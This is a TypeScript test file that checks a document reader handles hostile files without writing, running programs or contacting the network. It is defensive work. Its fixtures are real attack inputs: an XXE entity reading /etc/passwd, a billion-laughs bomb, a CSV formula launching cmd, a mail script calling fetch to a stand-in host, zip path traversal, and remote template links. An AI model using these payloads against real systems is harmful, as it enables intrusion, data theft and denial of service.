import childProcess from 'node:child_process';
import dgram from 'node:dgram';
import dns from 'node:dns';
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import { syncBuiltinESMExports } from 'node:module';
import net from 'node:net';
import { join } from 'node:path';
import { utils, write } from '@e965/xlsx';
import { strToU8, zipSync } from 'fflate';
import { afterEach, expect, test, vi } from 'vitest';
import { answerRequest } from '#electron/worker/answer-request.ts';
import { defaultLimits } from '#electron/worker/protocol.ts';
import type { FilePath } from '#shared/domain/evidence.ts';
import { recogniseDocument } from '#shared/recognise/recognise-document.ts';
import { anEml } from '../../support/reading/a-mail.ts';
import { aPdf } from '../../support/reading/a-pdf.ts';
import { aWorkbook } from '../../support/reading/a-workbook.ts';
import { temporaryFolder } from '../../support/temporary-folder.ts';

/** Everything that changes a file, starts a program or speaks to another computer. */
const forbidden: readonly (readonly [object, readonly string[]])[] = [
  [
    fs,
    [
      'writeFile',
      'writeFileSync',
      'appendFile',
      'appendFileSync',
      'createWriteStream',
      'rename',
      'renameSync',
      'unlink',
      'unlinkSync',
      'rm',
      'rmSync',
      'truncate',
      'ftruncate',
      'chmod',
      'utimes',
      'mkdir',
      'mkdirSync',
      'mkdtemp',
      'mkdtempSync',
      'copyFile',
      'copyFileSync',
      'write',
      'writeSync',
    ],
  ],
  [
    fs.promises,
    [
      'writeFile',
      'appendFile',
      'rename',
      'unlink',
      'rm',
      'truncate',
      'chmod',
      'utimes',
      'mkdir',
      'mkdtemp',
      'copyFile',
    ],
  ],
  [childProcess, ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork']],
  [net, ['connect', 'createConnection', 'createServer']],
  [net.Socket.prototype, ['connect']],
  [dns, ['lookup', 'resolve']],
  [http, ['request', 'get']],
  [https, ['request', 'get']],
  [dgram, ['createSocket']],
  [globalThis, ['fetch']],
];

afterEach(() => {
  vi.restoreAllMocks();
  syncBuiltinESMExports();
});

const book = utils.book_new();
utils.book_append_sheet(
  book,
  utils.aoa_to_sheet([
    ['=HYPERLINK("http://x.example")', '+31 6'],
    ['@SUM(1)', -12.5],
  ]),
  'A',
);

/** Files that ask for what a reader must not do: links, external entities, outside data, scripts. */
const files: Readonly<Record<string, () => Uint8Array | Promise<Uint8Array>>> = {
  'link.pdf': () => aPdf((page) => page.text('Factuur 1', { link: 'http://x.example/' })),
  'entiteit.xml': () =>
    strToU8(
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "http://x.example/b"><!ENTITY c SYSTEM "file:///etc/passwd">]><a>&b;&c;</a>',
    ),
  'lachen.xml': () =>
    strToU8(
      `<!DOCTYPE a [<!ENTITY l0 "ha">${Array.from({ length: 20 }, (_, n) => `<!ENTITY l${n + 1} "&l${n};&l${n};">`).join('')}]><a>&l20;</a>`,
    ),
  'buiten.xlsx': () =>
    aWorkbook({
      parts: {
        'xl/externalLinks/_rels/externalLink1.xml.rels':
          '<Relationships><Relationship Id="r1" Type="x/externalLinkPath" Target="http://x.example/a.xlsx" TargetMode="External"/></Relationships>',
      },
    }),
  'formules.xls': () => new Uint8Array(write(book, { type: 'array', bookType: 'biff8' })),
  'formules.csv': () => strToU8("=cmd|'/c calc'!A1;+1;-1;@SUM(A1)\n"),
  'mail.eml': () =>
    anEml({ html: '<img src="http://x.example/p.png"><script>fetch("http://x.example")</script>Dag' }),
  'pad.zip': () => zipSync({ '../../weg.csv': strToU8('a;b\n1;2\n'), 'nul\0naam.csv': strToU8('a;b\n') }),
  'sjabloon.docx': () =>
    zipSync({
      'word/document.xml': strToU8('<w:p><w:t>Contract</w:t></w:p>'),
      'word/_rels/settings.xml.rels': strToU8(
        '<Relationships><Relationship Id="r1" Type="x/attachedTemplate" Target="http://x.example/t.dotm" TargetMode="External"/></Relationships>',
      ),
    }),
  'bestand.gif': () => strToU8('GIF89a'),
};

test('reading any kind of file writes nothing, starts nothing and speaks to nobody', async () => {
  const folder = temporaryFolder();
  const paths: string[] = [];
  for (const [name, make] of Object.entries(files)) {
    const path = join(folder, name);
    fs.writeFileSync(path, await make());
    paths.push(path);
  }
  const read = (path: string) =>
    answerRequest(
      { kind: 'read', source: { kind: 'path', path: path as FilePath }, limits: defaultLimits },
      { recognise: recogniseDocument, hashed: () => undefined, pageStarts: () => undefined },
    );
  // What readers load on first use is loaded before anything is watched.
  for (const path of paths) await read(path);
  const done: string[] = [];
  for (const [owner, names] of forbidden) {
    for (const name of names) {
      vi.spyOn(owner as Record<string, () => unknown>, name).mockImplementation(() => {
        done.push(name);
        throw new Error('forbidden');
      });
    }
  }
  const opened = vi.spyOn(fs.promises, 'open');
  syncBuiltinESMExports();
  const statuses: string[] = [];
  for (const path of paths) {
    const answer = await read(path);
    statuses.push(answer.kind === 'read' ? answer.reading.status : 'page');
  }
  const writable = opened.mock.calls.filter(
    ([, flags]) =>
      (Number(flags) & (fs.constants.O_WRONLY | fs.constants.O_RDWR | fs.constants.O_CREAT)) !== 0,
  );
  expect([done, writable, opened.mock.calls.length]).toEqual([[], [], paths.length]);
  expect(statuses).toEqual([
    'text',
    'corrupt',
    'corrupt',
    'table',
    'table',
    'table',
    'text',
    'no-text',
    'text',
    'unsupported',
  ]);
});
